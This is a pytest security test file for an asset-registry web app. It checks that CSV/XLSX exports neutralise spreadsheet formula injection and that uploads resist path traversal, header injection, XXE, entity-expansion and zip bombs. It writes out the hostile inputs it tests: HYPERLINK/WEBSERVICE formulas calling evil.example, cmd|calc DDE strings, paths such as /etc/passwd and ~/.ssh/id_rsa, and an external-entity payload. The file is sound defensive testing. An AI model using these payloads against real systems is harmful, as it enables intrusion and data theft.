"""Files that come in with more than they say, and files that go out to somebody's spreadsheet."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from typing import Any

import openpyxl
import pytest

from assetreg import jobs
from assetreg.db.session import Database
from assetreg.domain.access import EVERYTHING
from assetreg.domain.terms import OutcomeType, Role
from assetreg.schemas.device import device_input
from assetreg.schemas.outcome import outcome_input
from assetreg.services import devices, exports, outcomes, persons, places
from assetreg.services.persons import PersonInput
from tests.intruders.conftest import MakeToken, ask
from tests.sources.test_xlsx import SHEET_PART, bomb, sheet_xml, with_parts, workbook
from tests.web.checked_pages import CheckedClient
from tests.web.conftest import Clock, Login
from tests.web.fleet import CLERK, fill, make

STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
FORMULAS: dict[str, Any] = {
    "purchased": "2020-01-01",
    "model": '=HYPERLINK("http://evil.example/"&A1,"klicka")',
    "manufacturer": "+cmd|' /C calc'!A0",
    "note": '@SUM(1+1)*WEBSERVICE("http://evil.example")',
    "hostname": "-2+3+cmd|' /C calc'!A0",
    "supplier": "'=1+1",
    "order_number": "=1+1",
    "cost_centre": '"=1+1',
}


def dangerous(cell: Any) -> bool:
    """Whether a spreadsheet would run it; a number may begin with its sign."""
    text = str(cell)
    return text.startswith(STARTS) and re.fullmatch(r"[-+][0-9 ]+([.,][0-9]+)?", text) is None


def cells_of_csv(body: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";")
    return [cell for row in rows for cell in row]


def cells_of_xlsx(body: bytes) -> Iterator[Any]:
    """Every cell's value; none of them a formula or a link."""
    for sheet in openpyxl.load_workbook(io.BytesIO(body)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                assert cell.hyperlink is None
                yield cell.value


@pytest.fixture
def baited(web_database: Database) -> int:
    """Formulas wherever a person can write; gives the person's id."""
    fill(web_database)
    with web_database.transaction(EVERYTHING) as session:
        holder = places.owner(session, "1860")
        told = PersonInput('=HYPERLINK("http://evil.example")', "=1@evil.example", "9137")
        person = persons.add(session, holder.id, told).id
        (device,) = make(session, "1860", 1, **FORMULAS, stage="deployed", user="9137")
        (ended,) = make(session, "1860", 1, **FORMULAS)
        devices.edit(session, device, device_input({"note": "=5+5"}, reason="=6+6"), actor=CLERK)
        stated = {"outcome": OutcomeType.EXTERNAL_REUSE.value, "date": "2026-03-04", "erasure_certificate": "=1+1"}
        stated |= {"partner": "=2+2", "report": "@SUM(1)", "decision": "+3+3", "receiver": "-4+4"}
        outcomes.register(session, ended, outcome_input(stated), actor=CLERK)
        return person


def test_no_table_taken_out_runs_in_a_spreadsheet(web_database: Database, login: Login, baited: int) -> None:
    client = login(Role.ADMIN, display_name="=7+7")
    baits = 0
    addresses = [f"/export/{what}.%s?year=2026" for what in exports.WHATS] + [f"/personer/{baited}/utdrag.%s"]
    for address in addresses:
        plain, book = client.get(address % "csv"), client.get(address % "xlsx")
        assert (plain.status_code, book.status_code) == (200, 200), address
        found = cells_of_csv(plain.data)
        baits += sum("evil.example" in cell or "cmd|" in cell or "+" in cell for cell in found)
        assert [cell for cell in found if dangerous(cell)] == [], address
        assert list(cells_of_xlsx(book.data))
    assert baits > 5


def sent(client: CheckedClient, content: bytes, name: str = "lista.csv", **stated: str) -> str:
    form: dict[str, Any] = {"preset": "devices", "file": (io.BytesIO(content), name), **stated}
    answer = client.post("/import/ny", data=form, content_type="multipart/form-data")
    return str(answer.headers.get("Location", ""))


def worked(database: Database, clock: Clock) -> None:
    while jobs.work_once(database, "w", clock=clock):
        pass


def test_refused_rows_do_not_run_where_they_are_mended(login: Login, web_database: Database, clock: Clock) -> None:
    client = login(Role.TECHNICIAN)
    head = "serienummer;typ;kommun;=1+1;anmärkning;@SUM(1)\r\n"
    rows = f'{"=2+2"};lapdog;=3+3;+4;-5+5;@6;=beyond\r\n"{chr(9)}=7";"\r=8";1860;a;=9;b\r\n'
    address = sent(client, (head + rows).encode())
    worked(web_database, clock)
    found = cells_of_csv(client.get(f"{address}/avvisade.csv").data)
    assert sum("=" in cell for cell in found) > 4
    assert [cell for cell in found if dangerous(cell)] == []


NAMES = [
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\boot.ini",
    "a\0b.csv",
    'x"; filename="y.html',
    "x%0d%0aSet-Cookie: a=b.csv",
    "\u202egpj.exe",
    "~/.ssh/id_rsa",
    "." * 300,
    "<script>alert(1)</script>.csv",
    "con",
]


def test_name_of_a_file_is_a_name_and_no_path_or_header(login: Login) -> None:
    client = login(Role.TECHNICIAN)
    for name in NAMES:
        address = sent(client, b"serienummer;typ;kommun\nA1B2C3;laptop;1860\n", name)
        assert re.fullmatch(r"/import/\d+", address), name
        for path in (f"{address}/fil", f"{address}/avvisade.csv"):
            answer = client.get(path)
            stated = answer.headers["Content-Disposition"]
            assert answer.status_code == 200
            assert stated.startswith("attachment; ")
            assert len(re.findall(r"filename=", stated)) == 1
            assert not re.search(r"[\r\n/]|\\(?!\")", stated), stated
            assert answer.headers.getlist("Set-Cookie") == []
        assert "<script>" not in client.get(address).get_data(as_text=True)


ENTITIES = (
    "<!DOCTYPE x ["
    + '<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">'
CELL = '<row r="1"><c r="A1" t="inlineStr"><is><t>&%s;</t></is></c></row>'


@pytest.mark.parametrize(
    "content",
    [
        with_parts(workbook(("serienummer",)), {SHEET_PART: sheet_xml(CELL % "m", before=ENTITIES + "]>")}),
        with_parts(workbook(("serienummer",)), {SHEET_PART: sheet_xml(CELL % "a", before=OUTSIDE + "]>")}),
        bomb(SHEET_PART, 60_000_000),
        with_parts(workbook(("serienummer",)), {"../../../evil.xml": b"<x/>"}),
    ],
    ids=["entities", "outside", "zip", "climbing"],
)
def test_workbook_that_swells_or_reaches_out_is_refused_in_the_background(
    login: Login, web_database: Database, clock: Clock, content: bytes
) -> None:
    client = login(Role.TECHNICIAN)
    address = sent(client, content, "lista.xlsx", owner="1860")
    if address:
        worked(web_database, clock)
        page = client.get(address).get_data(as_text=True)
        assert "root:" not in page
        assert "aaaaaaaaaaaaaaaaaaaa" not in page
    assert client.get("/import").status_code == 200


def test_reply_kept_for_one_program_is_never_given_to_another(app: Any, make_token: MakeToken) -> None:
    """The same key, path and body, from a program that sees other owners: done for itself, or refused for itself."""
    laxa, askersund = make_token(Role.TECHNICIAN, "1860"), make_token(Role.TECHNICIAN, "1882")
    body = b'{"kind": "laptop", "owner": "1860", "serial": "PF4K9T2C"}'

    def post(token: str, content: bytes = body) -> Any:
        environ = {
            "HTTP_AUTHORIZATION": f"Bearer {token}",
            "HTTP_IDEMPOTENCY_KEY": "the-same-key",
            "CONTENT_TYPE": "application/json",
            "CONTENT_LENGTH": str(len(content)),
            "wsgi.input": io.BytesIO(content),
        }
        return ask(app, "/api/v1/devices", method="POST", environ=environ)

    made = post(laxa)
    assert made.status_code == 201
    tag = str(made.json["tag"])
    theirs = post(askersund)
    assert (theirs.status_code, theirs.json["code"]) == (409, "serial_elsewhere")
    assert tag not in theirs.get_data(as_text=True)
    assert "Idempotent-Replayed" not in theirs.headers
    again = post(laxa)
    assert (again.status_code, again.json["tag"]) == (201, tag)
    assert again.headers["Idempotent-Replayed"] == "true"
    assert post(laxa, body.replace(b"laptop", b"tablet")).status_code == 422
